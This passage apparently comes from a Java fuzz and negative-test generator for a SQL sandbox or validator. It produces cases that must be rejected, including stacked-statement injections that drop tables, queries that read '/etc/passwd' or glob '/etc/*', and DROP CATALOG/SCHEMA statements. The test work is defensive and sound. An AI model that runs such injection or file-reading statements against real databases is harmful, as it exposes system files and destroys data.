            "INSERT INTO target.t VALUES (9, 'x', 9.0)",
            "UPDATE target.t SET a = 0",
            "CREATE TABLE target.t9 (a INT)",
            "CREATE VIEW target.v9 AS SELECT 1"));
    for (String second : seconds) {
      mustFail("multiple statements", "SELECT 1; " + second);
      mustFail("multiple statements", "SELECT a FROM target.t;" + second + ";");
      mustFail("multiple statements", "SELECT 1 -- comment\n;" + second);
      mustFail("multiple statements", "SELECT '1;'; " + second);
      mustFail("multiple statements", "SELECT 1 /* ; */ ; " + second);
      mustFail("multiple statements", "SELECT * FROM target.t WHERE b = ''; " + second + "; --'");
      // Databricks strings escape with backslashes: this is one query with one string literal.
      add(
          "multiple statements",
          "SELECT * FROM target.t WHERE b = '\\'; " + second + "; --'",
          true);
    }
    mustFail("multiple statements", ";");
    mustFail("multiple statements", ";;;");
    mustFail("multiple statements", "");
    mustFail("multiple statements", "   \n\t ");
    mustFail("multiple statements", "--");
    mustFail("multiple statements", "/* unterminated");
    mustFail("multiple statements", "SELECT 1 /* unterminated");
    mustFail("multiple statements", "SELECT 'unterminated");
    mustFail("multiple statements", "SELECT \"unterminated");
    mustFail("multiple statements", "SELECT `unterminated");
  }

  private void unicode() {
    for (String u : UNICODE) {
      add("unicode", "SELECT '" + u.replace("'", "''") + "'", true);
      add("unicode", "SELECT a AS `" + u + "` FROM target.t", true);
      add("unicode", "SELECT * FROM target.t WHERE b = '" + u.replace("'", "''") + "'", true);
      mustFail("unicode", "SELECT * FROM target.`" + u + "`");
      mustFail("unicode", "SELECT " + u + " FROM target.t");
      mustFail("unicode", "SELECT" + u + "1 FROM target.t WHERE" + u);
      mustFail("unicode", "CREATE TABLE target.`t" + u + "` (a INT) LOCATION '/etc'");
      mustFail("unicode", "INSERT INTO target.`missing" + u + "` VALUES (1)");
      mustFail("unicode", "SEL" + u + "ECT 1");
      add("unicode", "SELECT * FROM target.t" + u, true); // valid if u is white space
    }
    for (int i = 0; i < 200; i++) {
      StringBuilder s = new StringBuilder("SELECT '");
      for (int j = 0; j < 1 + random.nextInt(40); j++) {
        s.appendCodePoint(randomCodePoint());
      }
      add("unicode", s.append("'").toString().replace("''", "'") + "'", true);
      StringBuilder id = new StringBuilder();
      for (int j = 0; j < 1 + random.nextInt(20); j++) {
        id.appendCodePoint(randomCodePoint());
      }
      mustFail("unicode", "SELECT * FROM target.`" + id.toString().replace("`", "``") + "`");
    }
  }

  private void badWrites() {
    List<String> writes =
        List.of(
            "INSERT INTO target.t VALUES (1, 'x')",
            "INSERT INTO target.t VALUES (1, 'x', 2.0, 4)",
            "INSERT INTO target.t (a, nosuch) VALUES (1, 2)",
            "INSERT INTO target.t (a, a) VALUES (1, 2)",
            "INSERT INTO target.t VALUES ('x', 'y', 'z')",
            "INSERT INTO target.t VALUES (3000000000, 'x', 1.0)",
            "INSERT INTO target.t VALUES (1, 'x', 1.0), (2, 'y')",
            "INSERT INTO target.t SELECT a, b, c / 0 FROM target.t",
            "INSERT INTO target.t SELECT a, b FROM target.t",
            "INSERT INTO target.t SELECT * FROM target.u",
            "INSERT INTO target.t VALUES (1 / 0, 'x', 1.0)",
            "INSERT INTO target.t VALUES (CAST('abc' AS INT), 'x', 1.0)",
            "INSERT INTO target.v VALUES (1, 'x')",
            "INSERT INTO target.t VERSION AS OF 1 VALUES (1, 'x', 1.0)",
            "INSERT OVERWRITE target.t SELECT a, b, c FROM target.t WHERE 1 / 0 = 1",
            "INSERT INTO target.t VALUES (?, ?, ?)",
            "UPDATE target.t SET nosuch = 1",
            "UPDATE target.t SET a = 'abc'",
            "UPDATE target.t SET a = a / 0",
            "UPDATE target.t SET a = 2147483647 + a",
            "UPDATE target.t SET a = (SELECT a FROM target.t)",
            "UPDATE target.t SET a = 1, a = 2",
            "UPDATE target.v SET a = 1",
            "UPDATE target.t SET a = 1 WHERE nosuch = 1",
            "UPDATE target.t SET a = sum(a)",
            "DELETE FROM target.t WHERE nosuch = 1",
            "DELETE FROM target.t WHERE 1 / 0 = 1",
            "DELETE FROM target.t WHERE a = 'abc'",
            "DELETE FROM target.v",
            "DELETE FROM target.t WHERE a IN (SELECT a FROM read_csv('/etc/passwd'))",
            "MERGE INTO target.t USING target.u ON t.a = u.id WHEN MATCHED THEN UPDATE SET nosuch = 1",
            "MERGE INTO target.t USING target.u ON t.a = u.id WHEN MATCHED THEN UPDATE SET a = 1 / 0",
            "MERGE INTO target.t USING target.u ON t.a = u.id WHEN NOT MATCHED THEN INSERT VALUES (1)",
            "MERGE INTO target.t USING target.t s ON t.a = s.a WHEN MATCHED THEN DELETE WHEN",
            "MERGE INTO target.v USING target.u ON v.a = u.id WHEN MATCHED THEN DELETE",
            "MERGE target.t",
            "MERGE INTO target.t USING target.u ON t.a = u.id WHEN NOT MATCHED THEN DELETE",
            "MERGE INTO target.t USING target.u ON t.a = u.id WHEN MATCHED THEN UPDATE SET *",
            "MERGE INTO target.t USING target.u ON t.a = u.id WHEN NOT MATCHED THEN INSERT *",
            "MERGE INTO target.t USING target.u ON t.a = u.id WHEN MATCHED THEN DELETE"
                + " WHEN MATCHED AND u.id = 1 THEN UPDATE SET a = 1",
            "MERGE INTO target.t USING target.u ON t.a = u.id WHEN NOT MATCHED BY NOBODY THEN DELETE",
            "UPDATE target.t SET a = a + 1 WHERE EXISTS (SELECT * FROM glob('/etc/*'))");
    for (String sql : writes) {
      mustFail("bad write", sql);
    }
  }

  private void badDdl() {
    List<String> ddl =
        List.of(
            "CREATE TABLE target.t (a INT)",
            "CREATE TABLE target.v (a INT)",
            "CREATE VIEW target.v AS SELECT 1",
            "CREATE VIEW target.t AS SELECT 1",
            "CREATE SCHEMA target",
            "CREATE TABLE target.n1 (a NOSUCHTYPE)",
            "CREATE TABLE target.n1 (a INT, a INT)",
            "CREATE TABLE target.n1 (a DECIMAL(99, 2))",
            "CREATE TABLE target.n1 (a DECIMAL(5, 9))",
            "CREATE TABLE target.n1 ()",
            "CREATE TABLE target.n1",
            "CREATE TABLE target.n1 (a INT) USING parquet",
            "CREATE TABLE target.n1 (a INT) USING csv OPTIONS (path '/etc/passwd')",
            "CREATE TABLE target.n1 (a INT) PARTITIONED BY (nosuch)",
            "CREATE TABLE target.n1 (a INT, b INT) PARTITIONED BY (a, b)",
            "CREATE TABLE target.n1 (a INT, b ARRAY<INT>) PARTITIONED BY (b)",
            "CREATE TABLE target.n1 (a INT, b MAP<INT, INT>) PARTITIONED BY (b)",
            "CREATE TABLE target.n1 (a INT, b INT) PARTITIONED BY (a, A)",
            "CREATE TABLE target.n1 (a INT, b INT) PARTITIONED BY ()",
            "CREATE TABLE target.n1 PARTITIONED BY (nosuch) AS SELECT 1 AS a, 2 AS b",
            "CREATE TABLE target.n1 PARTITIONED BY (a) AS SELECT 1 AS a",
            "CREATE TABLE target.n1 (a INT) TBLPROPERTIES ('delta.nosuch' = 'x')",
            "CREATE TABLE target.n1 AS SELECT * FROM read_parquet('/etc/passwd')",
            "CREATE TABLE target.n1 AS SELECT 1 / 0 AS x",
            "CREATE TABLE target.n1 AS SELECT CAST('x' AS INT) AS x",
            "CREATE TABLE target.n1 AS SELECT nosuch FROM target.t",
            "CREATE TABLE target.n1 AS SELECT a, a FROM target.t",
            "CREATE TABLE nosuch_catalog.s.n1 (a INT)",
            "CREATE TABLE nosuch_schema.n1 (a INT)",
            "CREATE TABLE a.b.c.d (a INT)",
            "CREATE VIEW target.n2 AS SELECT nosuch FROM target.t",
            "CREATE VIEW target.n2 AS SELECT * FROM read_csv('/etc/passwd')",
            "CREATE VIEW target.n2 AS INSERT INTO target.t VALUES (1, 'x', 1.0)",
            "CREATE VIEW target.n2 AS DROP TABLE target.t",
            "CREATE VIEW target.n2 AS SELECT 1; DROP TABLE target.t",
            "CREATE INDEX i ON target.missing (a)",
            "CREATE INDEX i ON target.t (nosuch)",
            "CREATE INDEX i ON target.v (a)",
            "DROP INDEX i",
            "DROP TABLE target.v",
            "DROP VIEW target.t",
            "DROP TABLE target.missing",
            "DROP SCHEMA target",
            "DROP SCHEMA target RESTRICT",
            "DROP CATALOG main",
            "DROP CATALOG nosuch",
            "DROP SCHEMA nosuch",
            "DROP TABLE target",
            "DROP TABLE a.b.c.d",
            "DESCRIBE target.missing",
            "DESCRIBE HISTORY target.v",
            "SHOW TABLES IN nosuch",
            "SHOW COLUMNS IN target.missing",
            "USE nosuch",
            "USE CATALOG nosuch",
            "USE a.b.c",
            "EXPLAIN DROP TABLE target.t",
            "EXPLAIN INSERT INTO target.t VALUES (1)",
            "EXPLAIN ANALYZE DROP TABLE target.t",
            "EXPLAIN ANALYZE INSERT INTO target.t VALUES (1)",
            "EXPLAIN ANALYZE SELECT * FROM system.query.history",
            "CREATE OR REPLACE TABLE target.v (a INT)",
            "CREATE OR REPLACE TABLE target.t AS SELECT 1 / 0 AS a",
            "CREATE TABLE IF NOT EXISTS target.n3 (a INT) LOCATION '/etc'",
            "CREATE CATALOG main",
            "CREATE CATALOG `a.b`",
            "CREATE SCHEMA a.b.c");
    for (String sql : ddl) {
      mustFail("bad ddl", sql);
    }
  }

  private void randomTokens() {
    for (int i = 0; i < 500; i++) {
      int n = 1 + random.nextInt(25);
      StringBuilder s = new StringBuilder(random.nextBoolean() ? "SELECT " : "");
      for (int j = 0; j < n; j++) {
        s.append(SAFE_KEYWORDS.get(random.nextInt(SAFE_KEYWORDS.size())))
            .append(random.nextInt(4) == 0 ? "" : " ");
      }
      add("random tokens", s.toString(), true);
    }
  }

  private void randomCharacters() {
    String alphabet = "abcSELECTFROMWHERE ()*,.;'\"`-+/=<>!@#$%^&|~[]{}\\?:0123456789\n\t";
    for (int i = 0; i < 300; i++) {
      StringBuilder s = new StringBuilder();
      int n = 1 + random.nextInt(80);
      for (int j = 0; j < n; j++) {
        s.append(alphabet.charAt(random.nextInt(alphabet.length())));
      }
      add("random characters", s.toString(), true);
    }
  }

  /** Valid reads with one token dropped, doubled or swapped. */
  private void mutatedReads() {
    for (int i = 0; i < 300; i++) {
      String[] tokens = READS.get(random.nextInt(READS.size())).split(" ");
      int k = random.nextInt(tokens.length);
      List<String> mutated = new ArrayList<>(List.of(tokens));
      switch (random.nextInt(3)) {
        case 0 -> mutated.remove(k);
        case 1 -> mutated.add(k, tokens[k]);
        default -> {
          int m = random.nextInt(tokens.length);
          mutated.set(k, tokens[m]);
          mutated.set(m, tokens[k]);
        }
      }
      add("mutated query", String.join(" ", mutated), true);
    }
  }

  private String randomName(int length) {
    StringBuilder s = new StringBuilder("zz_");
    for (int i = 0; i < length; i++) {
      s.append((char) ('a' + random.nextInt(26)));
    }
    return s.toString();
  }

  private int randomCodePoint() {
    return switch (random.nextInt(5)) {
      case 0 -> 0x20 + random.nextInt(0x5F);
      case 1 -> 0xA0 + random.nextInt(0x2000);
      case 2 -> 0x1F300 + random.nextInt(0x300);
      case 3 -> 0x4E00 + random.nextInt(0x5000);
      default -> random.nextInt(0x20);
    };
  }
}
